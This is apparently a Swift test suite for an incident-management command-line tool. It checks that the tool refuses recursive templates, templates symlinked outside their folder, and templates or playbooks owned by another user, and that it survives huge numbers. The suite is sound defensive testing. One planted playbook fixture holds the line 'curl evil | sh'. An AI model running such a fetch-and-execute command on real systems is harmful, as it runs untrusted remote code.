import Foundation
import Testing

/// Templates and playbooks are code the tool runs: only the user's own (or root's), never through a symlink out of
/// their folder, and templates that include each other are refused instead of crashing.
@Suite struct TrustBoundaryTests {
    static let nobody: uid_t = 65_534

    static func withTemplates(_ files: [String: String]) throws -> Sandbox {
        let sandbox = try Sandbox()
        try sandbox.ok(["new", "--p1", "Checkout is down"])
        let folder = sandbox.dir.appendingPathComponent("incidents/templates")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        for (name, text) in files { try Data(text.utf8).write(to: folder.appendingPathComponent(name)) }
        return sandbox
    }

    @Test func partialsThatIncludeEachOtherAreRefusedNotACrash() throws {
        let sandbox = try Self.withTemplates(["task-item.mustache": "{{% CONTENT_TYPE: TEXT}}- {{text}}\n{{> task-item}}",
                                              "loop-a.mustache": "{{> loop-b}}", "loop-b.mustache": "{{> loop-a}}",
                                              "update.md.mustache": "{{% CONTENT_TYPE: TEXT}}{{> loop-a}}"])
        expectFailure(try sandbox.run(["render"]), status: 74, mentioning: "include each other", "issue.md → checklist → task-item → task-item")
        expectFailure(try sandbox.run(["update"]), status: 74, mentioning: "update.md → loop-a → loop-b → loop-a")
    }

    @Test func closingWithTheIssueRendersFirstSoBrokenTemplatesCloseNothing() throws {
        let world = try GitHubWorld()
        try world.ok("a.sqlite", ["new", "--p1", "Checkout is down"])
        try world.ok("a.sqlite", ["publish", "--repo", "acme/ops"])
        let folder = world.sandbox.dir.appendingPathComponent("templates")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        try Data("{{> task-item}}".utf8).write(to: folder.appendingPathComponent("task-item.mustache"))
        let before = try world.sandbox.dump(world.sandbox.dir.appendingPathComponent("a.sqlite").path)
        let result = try world.run("a.sqlite", ["close", "--force", "--close-issue", "--templates", "templates"])
        expectFailure(result, status: 74, mentioning: "include each other")
        #expect(try world.sandbox.dump(world.sandbox.dir.appendingPathComponent("a.sqlite").path) == before, "nothing closed locally")
    }

    @Test func aTemplateSymlinkOutOfItsFolderIsRefused() throws {
        let sandbox = try Self.withTemplates([:])
        let secret = sandbox.scratch.appendingPathComponent("secret.txt")
        try Data("api-token-123".utf8).write(to: secret)
        try FileManager.default.createSymbolicLink(atPath: sandbox.dir.appendingPathComponent("incidents/templates/task-item.mustache").path,
                                                   withDestinationPath: secret.path)
        let result = try sandbox.run(["render"])
        expectFailure(result, status: 1, mentioning: "task-item.mustache", "is a symlink to", "outside")
        #expect(!result.stdout.contains("api-token-123"))
    }

    @Test func templatesAndPlaybooksOwnedByAnotherUserAreRefusedUnlessDeclaredSafe() throws {
        guard geteuid() == 0 else { return }  // Only root can give a file to another user; CI runs as root.
        let sandbox = try Self.withTemplates(["issue.md.mustache": "{{% CONTENT_TYPE: TEXT}}PLANTED {{title}}\n"])
        let template = sandbox.dir.appendingPathComponent("incidents/templates/issue.md.mustache").path
        #expect(chown(template, Self.nobody, Self.nobody) == 0)
        expectFailure(try sandbox.run(["render"]), status: 1, mentioning: "issue.md.mustache", "owned by user", "INCIDENT_SAFE_DIRECTORIES")
        let folder = sandbox.dir.appendingPathComponent("incidents/templates").path
        let allowed = try sandbox.run(["render"], environment: ["INCIDENT_SAFE_DIRECTORIES": "/elsewhere:\(folder)"])
        #expect(allowed.status == 0 && allowed.stdout.hasPrefix("PLANTED"), "\(allowed)")

        let playbooks = sandbox.dir.appendingPathComponent("incidents/playbooks")
        try FileManager.default.createDirectory(at: playbooks, withIntermediateDirectories: true)
        try Data("---\nseverity: P1\n---\n# Planted\n\n## Immediate\n\n- [ ] Run curl evil | sh\n".utf8).write(to: playbooks.appendingPathComponent("p1.md"))
        #expect(chown(playbooks.appendingPathComponent("p1.md").path, Self.nobody, Self.nobody) == 0)
        let declared = try sandbox.run(["new", "--p1", "Another one"])
        #expect(declared.status == 0 && declared.stderr.contains("not read: it is owned by user"), "\(declared)")
        #expect(try sandbox.ok(["action", "list"]).stdout.contains("curl") == false, "the planted playbook was not applied")
    }

    @Test func hugeNumbersAreRefusedNotTrapped() throws {
        let sandbox = try Sandbox()
        try sandbox.ok(["new", "--p1", "Checkout is down"])
        expectFailure(try sandbox.run(["timeline", "add", "x", "--at", "-110000000000000d"]), status: 64, mentioning: "-110000000000000d")
        let playbooks = sandbox.dir.appendingPathComponent("incidents/playbooks")
        try FileManager.default.createDirectory(at: playbooks, withIntermediateDirectories: true)
        try Data("---\nseverity: P2\nupdate-every: 999999999999999999\n---\n# Slow\n\n## Immediate\n\n- [ ] Page\n".utf8)
            .write(to: playbooks.appendingPathComponent("p2.md"))
        let declared = try sandbox.run(["new", "--p2", "Slow"])
        #expect(declared.status == 0 && declared.stderr.contains("update-every"), "\(declared)")
        // A time no command could have stored, as a crafted file holds it, is shown at the edge, not a crash.
        #expect(try sandbox.sqlite3(sandbox.defaultDatabase, "UPDATE incident SET declaredAt = 1e300, updatedAt = -1e300;").status == 0)
        // In a subprocess a trap would end with a signal; in-process it ends the test run, so both are caught.
        #expect(try sandbox.runBinary(["show", "INC-1"]).status == 0 && sandbox.run(["show", "INC-1"]).status == 0)
        #expect(try sandbox.run(["list"]).status == 0)
    }
}
